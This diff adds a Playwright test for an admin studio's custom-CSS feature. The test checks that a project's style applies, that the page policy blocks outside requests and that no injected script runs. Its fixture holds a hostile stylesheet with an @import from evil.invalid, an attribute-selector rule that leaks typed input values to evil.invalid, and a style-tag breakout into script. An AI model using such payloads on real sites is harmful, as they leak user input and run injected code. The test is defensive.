@@ -1,0 +1,42 @@
+import { expect, test } from '@playwright/test'
+import { people, signIn } from './studio.ts'
+
+/** A style that tries everything: to bring another one, to send away what is typed, to lie over the whole page. */
+const hostile = `
+  @import url(https://evil.invalid/more.css);
+  h1 { color: rgb(1, 2, 3) !important; }
+  input[value^='a'] { background: url(https://evil.invalid/a); }
+  h1 { background: url(https://evil.invalid/h1); }
+  </style><script>window.pwned = true</script>
+`
+
+test("a project's own style colours the studio, brings nothing along and can be left out (X-07)", async ({
+  page,
+  request,
+}) => {
+  const login = await request.post('/auth/login', { data: people.admin })
+  const { access_token: token } = (await login.json()).data
+  const save = (custom_css: string | null) =>
+    request.patch('/settings', { data: { custom_css }, headers: { authorization: `Bearer ${token}` } })
+  const ends: (string | undefined)[] = []
+  page.on('requestfailed', each => {
+    if (each.url().includes('evil.invalid')) ends.push(each.failure()?.errorText)
+  })
+  const colour = () => page.locator('h1').evaluate(heading => getComputedStyle(heading).color)
+  expect((await save(hostile)).ok()).toBe(true)
+  try {
+    await page.goto('/admin/login')
+    await expect(page.getByLabel('E-mail')).toBeVisible()
+    expect(await page.evaluate(() => document.adoptedStyleSheets.length)).toBe(0)
+    await signIn(page, 'admin')
+    await expect.poll(colour).toBe('rgb(1, 2, 3)')
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+    await page.goto('/admin/collections?safe=1')
+    await expect(page.locator('h1')).toBeVisible()
+    expect(await colour()).not.toBe('rgb(1, 2, 3)')
+    // The policy of the page, not a missing network, is what ends them; the other style is not even asked for.
+    expect(ends).toEqual(['csp'])
+  } finally {
+    await save(null)
+  }
+})
